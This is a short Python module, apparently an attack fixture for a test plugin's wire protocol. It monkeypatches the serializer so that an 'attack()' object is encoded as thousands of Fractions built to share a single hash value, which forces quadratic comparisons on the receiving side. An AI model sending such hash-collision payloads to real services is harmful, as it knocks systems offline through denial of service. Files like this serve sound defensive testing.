"""Sends a set of thousands of fractions of one hash, each of which is to be compared with each."""

import fractions
import sys

msgpack = sys.modules["msgpack"]
values = sys.modules["pytest_balanced_sampler.wire.values"]
extend_data = values._extend_data
MULTIPLES = [fractions.Fraction(n * (2**61 - 1), 1) for n in range(1, 7000)]


class Members:
    pass


def as_set(item, pack, *how):
    if type(item) is Members:
        return msgpack.ExtType(1, pack(MULTIPLES))
    return extend_data(item, pack, *how)


values._extend_data = as_set


def attack():
    return Members()
